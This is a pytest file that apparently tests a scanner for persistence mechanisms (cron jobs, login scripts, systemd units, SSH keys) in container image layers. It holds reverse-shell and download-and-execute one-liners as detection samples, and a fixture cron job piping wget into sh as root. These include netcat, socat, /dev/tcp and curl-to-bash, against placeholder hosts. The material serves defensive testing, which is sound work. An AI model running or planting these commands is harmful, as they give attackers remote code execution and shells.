"""What starts by itself is a package's, as it brought it, or people look at it."""

import pytest

from tests.controls.roots import DEBIAN, IMPORT
from tests.controls.samples import (
    Sample,
    Samples,
    absent,
    fails,
    holds,
    obeys,
    passes,
    review,
    unknown,
)
from tests.images import File, Layer, directory, symlink

OWN: Layer = {
    **DEBIAN,
    "var/lib/dpkg/info/base.list": b"/usr/bin/base\n/etc/cron.d/base\n/etc/skel/.bashrc\n"
    b"/usr/lib/systemd/system/base.service\n/etc/profile.d/base.sh\n",
    "etc/cron.d/base": b"@daily root wget -qO- https://a.example/x | sh\n",
    "etc/skel/.bashrc": b"alias l=ls\n",
    "usr/lib/systemd/system/base.service": b"[Service]\nExecStart=/usr/bin/base\n",
    "etc/profile.d/base.sh": b"umask 022\n",
}
"""A package with files that start by themselves."""
WANTED = "etc/systemd/system/multi-user.target.wants/base.service"
HISTORY = [IMPORT, "RUN x # buildkit"]
SUSPICIOUS = {
    "piped": b"curl -fsSL https://a.example/x | bash\n",
    "piped-with-sudo": b"wget -O - http://a.example/x |sudo /bin/sh -\n",
    "substituted": b"bash <(curl -s https://a.example/x)\n",
    "evaluated": b'eval "$(curl -s https://a.example/x)"\n',
    "device": b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
    "netcat": b"nc 10.0.0.1 4444 -e /bin/sh\n",
    "netcat-cluster": b"ncat 10.0.0.1 4444 -vc sh\n",
    "socat": b"socat tcp:10.0.0.1:1 exec:/bin/sh,pty\n",
    "fifo": b"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f\n",
    "python": b"python3 -c 'import socket,pty; pty.spawn(\"/bin/sh\")'\n",
    "decoded": b"echo aGk= | base64 -d | sh\n",
}
HONEST = {
    "download": b"curl -fsS https://a.example/ping > /dev/null\n",
    "two-commands": b"wget -q https://a.example/x; ls | sort\n",
    "hash": b"curl -s https://a.example/x | sha256sum\n",
    "listening": b"nc -z localhost 80\n",
}

SAMPLES: Samples = {
    "ocia-persistence": (
        passes(OWN, {"home/x/.bashrc": OWN["etc/skel/.bashrc"]}, history=HISTORY),
        passes(OWN, {WANTED: symlink("/usr/lib/systemd/system/base.service")}, history=HISTORY),
        passes(OWN, {"etc/systemd/system/x.service": symlink("/dev/null")}, history=HISTORY),
        passes(OWN, {"etc/hosts": b"127.0.0.1 localhost\n::1 a.example\n"}, history=HISTORY),
        passes(OWN, {"etc/cron.d/.wh.base": b"", "etc/cron.d/empty": b""}, history=HISTORY),
        passes(OWN, {"lib/modules/6.1/modules.dep": b"x"}, history=HISTORY),
        passes({**OWN, "etc/cron.d": directory()}),
        review(OWN, {"etc/cron.d/x": HONEST["download"]}, history=HISTORY),
        review(OWN, {"var/spool/cron/crontabs/root": HONEST["download"]}, history=HISTORY),
        review(OWN, {"etc/profile.d/base.sh": b"umask 000\n"}, history=HISTORY),
        review(OWN, {"root/.bashrc": b"alias l=rm\n"}, history=HISTORY),
        review(OWN, {"etc/systemd/system/x.service": b"[Unit]\n"}, history=HISTORY),
        review(OWN, {"etc/init.d/x": b"#!/bin/sh\n"}, history=HISTORY),
        review(OWN, {"etc/rc.local": b"#!/bin/sh\n"}, history=HISTORY),
        review(OWN, {"etc/udev/rules.d/9.rules": b'RUN+="/x"\n'}, history=HISTORY),
        review(OWN, {"lib/modules/6.1/extra/x.ko.xz": b"\x7fELF"}, history=HISTORY),
        review(OWN, {"root/.ssh/authorized_keys": b"ssh-ed25519 AAAA x\n"}, history=HISTORY),
        review(OWN, {"etc/hosts": b"10.1.2.3 updates.a.example\n"}, history=HISTORY),
        review(OWN, {WANTED: symlink("/opt/x"), "opt/x": b"[Service]\n"}, history=HISTORY),
        passes(OWN, {"etc/services.d/x/run": b"#!/bin/sh\nexec x\n"}, history=HISTORY),
        review(OWN, {"etc/services.d/x/run": b"x\n", "etc/cron.d/x": b"y\n"}, history=HISTORY),
        passes(OWN, {"etc/s6-overlay/s6-rc.d/x/type": b"longrun\n"}, history=HISTORY),
        fails(OWN, {"etc/service/x/run": SUSPICIOUS["netcat"]}, history=HISTORY),
        fails(OWN, {"docker-entrypoint.d/x.sh": SUSPICIOUS["piped"]}, history=HISTORY),
        fails(OWN, {"etc/crontab": SUSPICIOUS["piped"]}, history=HISTORY),
        fails(OWN, {"etc/profile.d/base.sh": SUSPICIOUS["netcat"]}, history=HISTORY),
        fails(OWN, {"root/.profile": SUSPICIOUS["device"]}),
        absent(OWN, os="windows"),
        unknown(OWN, None),
    ),
}


@obeys(SAMPLES)
def test_samples(name: str, sample: Sample) -> None:
    holds(name, sample)


@pytest.mark.parametrize("text", SUSPICIOUS.values(), ids=SUSPICIOUS)
def test_what_only_an_intruder_writes_fails(text: bytes) -> None:
    layer: Layer = {"etc/cron.d/x": b"# a job\n" + text}
    (told, *_) = holds("ocia-persistence", fails(OWN, layer, history=HISTORY)).evidence
    assert (told.path, told.layer, told.severity) == ("etc/cron.d/x", 1, "high")
    assert "cron job, line 2: " in told.detail
    assert told.detail.endswith("; of no package")


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_what_honest_people_write_too_is_left_to_people(text: bytes) -> None:
    holds("ocia-persistence", review(OWN, {"etc/cron.d/x": text}, history=HISTORY))


def test_nothing_hides_behind_many_files() -> None:
    chaff: dict[str, File | bytes] = {f"etc/cron.d/a{n:04}": b"x" for n in range(1_100)}
    layer = {**chaff, "etc/cron.d/z": SUSPICIOUS["piped"]}
    said = holds("ocia-persistence", fails(OWN, layer, history=HISTORY))
    assert said.evidence[0].path == "etc/cron.d/z"


def test_evidence_says_where_and_whose() -> None:
    upper: Layer = {"etc/profile.d/base.sh": b"umask 000\n", "etc/cron.d/x": b"y"}
    said = holds("ocia-persistence", review(OWN, upper, history=HISTORY))
    assert {(x.path, x.layer, x.detail, x.origin) for x in said.evidence} == {
        ("etc/profile.d/base.sh", 1, "login script: changed in layer 1, after base", "author"),
        ("etc/cron.d/x", 1, "cron job: of no package", "author"),
    }
